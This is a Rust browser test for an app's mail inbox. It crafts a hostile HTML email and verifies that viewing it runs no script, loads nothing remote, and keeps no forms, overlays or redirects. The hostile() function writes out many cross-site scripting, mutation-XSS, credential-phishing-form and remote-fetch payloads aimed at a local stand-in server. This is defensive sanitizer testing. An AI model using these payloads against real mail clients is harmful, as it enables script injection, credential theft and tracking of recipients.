//! A mail that attacks whoever opens it: nothing of it runs, loads, leaves, covers or jumps, on any page that shows it.

use std::sync::{Arc, Mutex};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::support::app::{PASSWORD, TestApp};
use crate::support::chromium::Chromium;
use crate::web::take_mail;

/// A server elsewhere that notes what it is asked for.
async fn elsewhere() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let (home, asked) = (format!("http://{}", listener.local_addr().unwrap()), Arc::new(Mutex::new(Vec::new())));
    let noted = asked.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let mut head = vec![0; 4_096];
            let read = socket.read(&mut head).await.unwrap_or(0);
            let path = String::from_utf8_lossy(&head[..read]).split(' ').nth(1).unwrap_or_default().to_owned();
            if !path.is_empty() {
                noted.lock().unwrap().push(path);
            }
            let page = b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: 15\r\nconnection: close\r\n\r\n<p>elsewhere</p";
            let _hung_up = socket.write_all(page).await;
        }
    });
    (home, asked)
}

fn hostile(reply_to: &str, evil: &str) -> String {
    let html = format!(
        "<html><head><meta http-equiv='refresh' content='0;url={evil}/refresh'><base href='{evil}/'><link rel='stylesheet' href='{evil}/link.css'>\
         <link rel='prefetch' href='{evil}/prefetch'><title>x</title><style>@import url({evil}/import.css); body {{ display: none }} \
         p {{ background: url({evil}/style.png) }}</style></head><body background='{evil}/body.png' onload=\"window.owned=1\">\
         <script>window.owned = 1; fetch('{evil}/script'); document.body.innerHTML = 'owned'</script>\
         <p id='x' style=\"position:fixed;inset:0;z-index:99;background:url('{evil}/attribute.png')\">The van is blue</p>\
         <img src='{evil}/pixel.gif'><img src=x onerror=\"window.owned=1;fetch('{evil}/onerror')\"><img srcset='{evil}/set.png 1x'>\
         <svg onload=\"window.owned=1\"><image href='{evil}/svg.png'/><script>window.owned=1</script></svg>\
         <math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>\
         </style></mglyph></form></mtext></math>\
         <iframe src='{evil}/frame'></iframe><object data='{evil}/object'></object><embed src='{evil}/embed'><video src='{evil}/video' autoplay></video>\
         <form action='{evil}/form'><input name='password' autofocus onfocus=\"window.owned=1\"><button>Sign in again</button></form>\
         <a href=\"javascript:window.owned=1\">one</a> <a href='{evil}/bank' ping='{evil}/ping' target='_top'>Your bank</a>\
         <details open ontoggle=window.owned=1><summary>s</summary></details><marquee onstart=window.owned=1>m</marquee>\
         <table background='{evil}/table.png'><tr><td>seen at nine</td></tr></table></body></html>"
    );
    format!(
        "From: \"<img src=x onerror=window.owned=1>\" <bob@example.org>\r\nTo: {reply_to}\r\nSubject: Re: </title><script>window.owned=1</script> van\r\n\
         Message-ID: <hostile@example.org>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n\
         --b\r\nContent-Type: image/svg+xml; name=\"<b onmouseover=window.owned=1>.svg\"\r\nContent-Disposition: attachment\r\n\r\n\
         <svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'><image href='{evil}/file.png'/></svg>\r\n\
         --b\r\nContent-Type: text/html; name=\"page.html\"\r\nContent-Disposition: attachment\r\n\r\n<script>window.owned=1; fetch('{evil}/file')</script>\r\n--b--\r\n"
    )
}

on_both!(nothing_in_a_hostile_mail_runs_loads_leaves_or_covers, async |db| {
    let t = TestApp::start(db).await;
    t.add_resident(db, "Bob", &["bob@example.org"], &[]).await;
    let mut owner = t.officer("owner@force.example").await;
    let reference = t.publish(&mut owner, "White van", "Did you see a white van?").await;
    let alert = t.wait_for_mails("bob@example.org", 1).await.remove(0);
    let (evil, asked) = elsewhere().await;
    take_mail(&t, hostile(alert["headers"]["reply-to"][0].as_str().unwrap(), &evil)).await;
    let api = t.key(&["inbox"]).await;
    let conversation = t.wait_for_conversations(&api, &reference, 1).await.remove(0);

    let desk = Chromium::start(db, &t.url).await;
    desk.sign_in("owner@force.example", PASSWORD).await;
    desk.open("/inbox").await;
    desk.sees("#rows .row", "The van is blue").await;
    unharmed(&desk).await;
    let talk = format!("/inbox/{}", conversation["id"].as_str().unwrap());
    desk.open(&talk).await;
    desk.sees(".msg.in", "The van is blue").await;
    unharmed(&desk).await;
    let as_sent = desk.script("return document.querySelector('[data-as-sent]').getAttribute('href')").await;

    desk.open(as_sent.as_str().unwrap()).await;
    desk.sees(".letter", "The van is blue").await;
    desk.sees(".letter", "seen at nine").await;
    desk.sees(".letter .target", "/bank").await;
    desk.sees("header", "pictures from elsewhere were not loaded").await;
    unharmed(&desk).await;
    let inside = ".letter :is(script, style, form, input, button, iframe, object, embed, svg, video, link, meta, base, a, [style], [onerror], [src])";
    assert_eq!(desk.count(inside).await, 0, "only words and tables are left");
    let covered = desk.script("return document.elementFromPoint(innerWidth / 2, 8)?.closest('header, html').localName").await;
    assert_ne!(covered, "p", "nothing lies over the page");
    assert_eq!(desk.path().await, as_sent.as_str().unwrap(), "nor did it jump away");
    // No script may run on the page, so axe-core cannot: it is looked at by eye, and fits its window.
    for width in [1280, 360] {
        desk.resize(width, 780).await;
        assert_eq!(desk.script("return document.documentElement.scrollWidth <= innerWidth").await, true, "{width} px");
    }
    desk.picture("as-sent").await;

    // The server elsewhere works, and this is the first that it hears of us.
    desk.open(&format!("{evil}/asked-on-purpose")).await;
    assert_eq!(asked.lock().unwrap().first().map(String::as_str), Some("/asked-on-purpose"));
    desk.close().await;
    t.stop().await;
});

async fn unharmed(desk: &Chromium) {
    assert_eq!(desk.script("return window.owned ?? null").await, serde_json::Value::Null, "something of the mail ran");
    assert_eq!(desk.script("return document.forms.length > 0 && [...document.forms].some((form) => !form.action.startsWith(location.origin))").await, false);
}
